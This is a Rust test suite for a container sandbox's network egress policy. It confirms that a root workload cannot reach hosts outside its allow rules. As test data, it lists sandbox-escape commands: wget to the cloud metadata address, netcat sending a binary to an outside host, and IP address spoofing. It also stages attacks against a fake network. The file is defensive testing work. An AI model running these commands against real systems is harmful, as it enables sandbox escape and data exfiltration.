//! A workload that is root and wants out.

use std::process::Command;

use lazaret_testing::program::finish;
use serde_json::Value;

use super::{policy, port, rule, server, sh, sleeper};
use crate::support::{World, rounds};

#[test]
fn nothing_but_permitted_connections_leaves_a_machine() {
    let served = server("secret");
    let at = port(&served);
    let rules = policy(&rule("api.example.com", "ports: [1], verdict: allow"));
    let (machine, _world) = sleeper("hostile", &rules, &["api.example.com"], &[]);
    let attempts = [
        format!("wget -q -O - http://api.example.com:{at}/"),
        format!("wget -q -O - http://host.lazaret.internal:{at}/"),
        format!("wget -q -O - http://10.0.2.2:{at}/"),
        "ping -c 1 -W 2 169.254.169.254 && exit 1; wget -q -O - http://169.254.169.254/".to_owned(),
        "nc -u -w 2 8.8.8.8 53 < /bin/busybox | head -c 1 | grep .".to_owned(),
        "ip addr add 10.0.2.99/24 dev eth0 && ip addr del 10.0.2.15/24 dev eth0 && wget -q -O - http://1.1.1.1/".to_owned(),
    ];
    for attempt in &attempts {
        let output = sh(&machine, attempt);
        assert_ne!(output.status, Some(0), "{attempt}: {output:?}");
        assert!(!output.stdout.contains("secret"), "{attempt}: {output:?}");
    }
    assert_eq!(served.seen().len(), 0);
    assert_eq!(machine.state(), "running");
}

/// The names of the world, as the host knows them.
const HOSTS: &str = "127.0.0.1 localhost local.test
93.184.216.34 good.test
93.184.216.35 plain.test
93.184.216.36 proxy.test
93.184.216.37 evil.test asked.test
169.254.169.254 rebind.test
0.0.0.0 zero.test
::ffff:127.0.0.1 mapped.test
";

const POLICY: &str = "network:
  default: deny
  rules:
    - {match: good.test, ports: [80, 443], methods: [GET], paths: ['/ok/**'], verdict: allow}
    - {match: plain.test, ports: [443], tlsTerminate: false, verdict: allow}
    - {match: proxy.test, ports: [3128], verdict: allow}
    - {match: rebind.test, verdict: allow}
    - {match: local.test, verdict: allow}
    - {match: zero.test, verdict: allow}
    - {match: mapped.test, verdict: allow}
    - {match: asked.test, verdict: ask}
";

/// A namespace whose only way out leads to another one, where all addresses are this host's: there is the
/// world. The largest memory of the boundary is the last line.
const STAGE: &str = r#"
openssl req -x509 -newkey rsa:2048 -nodes -keyout key.pem -out cert.pem -days 2 -subj /CN=world \
    -addext subjectAltName=DNS:good.test,DNS:plain.test \
    -addext basicConstraints=critical,CA:FALSE 2>/dev/null
mkfifo hold
unshare --net sh -euc '
    until ip link show outside >/dev/null 2>&1; do sleep 0.05; done
    echo 1 >/proc/sys/net/ipv6/conf/all/disable_ipv6
    ip link set lo up
    ip address add 10.199.0.2/24 dev outside
    ip link set outside up
    ip route add 10.199.0.0/24 dev outside table local
    ip route add local 0.0.0.0/0 dev lo
    exec python3 "$ATTACK/world.py" report cert.pem key.pem
' <hold >up &
world=$!
exec 7>hold
while [ "$(readlink /proc/$world/ns/net)" = "$(readlink /proc/self/ns/net)" ]; do sleep 0.05; done
echo 1 >/proc/sys/net/ipv6/conf/all/disable_ipv6
ip link set lo up
ip link add inside type veth peer name outside
ip link set outside netns $world
ip address add 10.199.0.1/24 dev inside
ip link set inside up
ip route add default via 10.199.0.2
mount --make-rprivate /
mount --bind hosts /etc/hosts
echo nameserver 10.199.0.2 >resolv.conf
mount --bind resolv.conf /etc/resolv.conf
until grep -q ready up; do kill -0 $world; sleep 0.1; done
export SSL_CERT_FILE=$PWD/cert.pem
lazaret -q run -d --name attacked --cap-add ALL --policy policy.yaml --ask-timeout 1 python-attack sleep 100000 >/dev/null
lazaret -q cp "$ATTACK/attack.py" attacked:/attack.py
lazaret exec attacked python3 /attack.py "$ROUNDS"
emulator=$(lazaret inspect attacked | sed -n 's/.*"pid": \([0-9]*\).*/\1/p' | head -n 1)
holder=$(sed -n 's/^PPid:\s*//p' /proc/$emulator/status)
for status in /proc/[0-9]*/status; do
    if grep -q "^PPid:\s*$holder\$" "$status" && grep -aq boundary "${status%status}cmdline"; then
        sed -n 's/^VmHWM:\s*//p' "$status"
    fi
done
lazaret rm -f attacked >/dev/null
exec 7>&-
"#;

/// Where the programs of both sides are.
fn programs() -> String {
    format!("{}/../../tests/network/attack", env!("CARGO_MANIFEST_DIR"))
}

/// The lines of a file that are JSON.
fn lines(text: &str) -> Vec<Value> {
    let lines = text
        .lines()
        .filter_map(|line| serde_json::from_str(line).ok());
    lines.collect()
}

/// Whether a server may have heard this.
fn may_be_heard(line: &Value) -> bool {
    let [server, name, head] = ["server", "sni", "head"].map(|key| line[key].as_str());
    match (server.unwrap_or_default(), name, head) {
        // What was not permitted ends before anything is said.
        (_, _, None) if line["raw"].is_null() => line["failed"].is_string(),
        ("93.184.216.34:80", None, Some(head))
        | ("93.184.216.34:443", Some("good.test"), Some(head)) => {
            // The end of a body in chunks.
            let is_permitted = head.starts_with("GET /ok/")
                && !head.contains("..")
                && !head.to_ascii_lowercase().contains("override")
                && head.matches("Host: good.test").count() == 1;
            head == "0" || is_permitted
        }
        ("93.184.216.35:443", Some("plain.test"), Some(_)) => true,
        // Whoever permits a proxy without looking in permits what it is told by other protocols.
        ("93.184.216.36:3128", None, None) => line["raw"].as_str().unwrap().starts_with('\u{5}'),
        _ => false,
    }
}

#[test]
fn nothing_undecided_reaches_a_sink_whatever_root_tries() {
    let world = World::new();
    let lazaret = world.python("python-attack");
    world.write("hosts", HOSTS);
    world.write("policy.yaml", POLICY);
    let program = lazaret.command(["unused"]);
    let mut stage = Command::new("unshare");
    stage.args(["--net", "--mount", "sh", "-euc", STAGE]);
    stage.env_clear().current_dir(world.path("."));
    stage.envs(
        program
            .get_envs()
            .filter_map(|(name, value)| Some((name, value?))),
    );
    stage
        .env("ATTACK", programs())
        .env("ROUNDS", rounds(1).to_string());
    let output = finish(stage).success();
    let attempts = lines(&output.stdout);
    assert!(attempts.len() > 120, "{}", output.stdout);
    let permitted = |attempt: &Value| attempt["result"].as_str().unwrap().contains("REACHED");
    let of = |name: &str| attempts.iter().find(|attempt| attempt["attempt"] == name);
    for name in [
        "allowed",
        "allowed over TLS",
        "allowed, untouched",
        "still allowed",
    ] {
        assert!(permitted(of(name).unwrap()), "{name}: {}", output.stdout);
    }
    let report = std::fs::read_to_string(world.path("report")).unwrap();
    let heard = lines(&report);
    assert!(heard.len() > 10, "{report}");
    let too_much: Vec<&Value> = heard.iter().filter(|line| !may_be_heard(line)).collect();
    assert!(too_much.is_empty(), "{too_much:#?}");
    // The most memory that the boundary ever had.
    let memory = output.stdout.lines().last().unwrap();
    let kib: u64 = memory.trim_end_matches("kB").trim().parse().unwrap();
    assert!(kib < 96 * 1024, "{memory}");
}
